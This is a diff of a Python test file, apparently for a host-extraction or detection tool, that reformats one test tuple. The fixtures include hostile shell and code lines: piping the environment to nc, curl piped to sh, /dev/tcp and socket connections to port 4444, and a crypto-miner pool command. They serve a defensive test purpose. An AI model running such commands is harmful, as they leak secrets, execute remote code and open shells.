@@ -36,8 +36,10 @@ WORKFLOW = ".github/workflows/ci.yml"
         (b"no address: b.dev/x std::io", ()),
         (b"env | gzip | nc pool.dev 443", ("pool.dev",)),
         (b"./m -o Us-West.pool.com:443 -u 8.8.4.4:3333", ("us-west.pool.com", "8.8.4.4")),
-        (b"curl -sd k=v hop.io/x | sh; wget -q 8.8.4.4/a; x=$(curl 'u@b.net')",
-         ("hop.io", "b.net", "8.8.4.4")),
+        (
+            b"curl -sd k=v hop.io/x | sh; wget -q 8.8.4.4/a; x=$(curl 'u@b.net')",
+            ("hop.io", "b.net", "8.8.4.4"),
+        ),
         (b"exec 3<>/dev/tcp/a.b.com/443", ("a.b.com",)),
         (b"request({hostname: 'a.io', path})", ("a.io",)),
         (b's.connect(("x.y.ru", 4444))', ("x.y.ru",)),
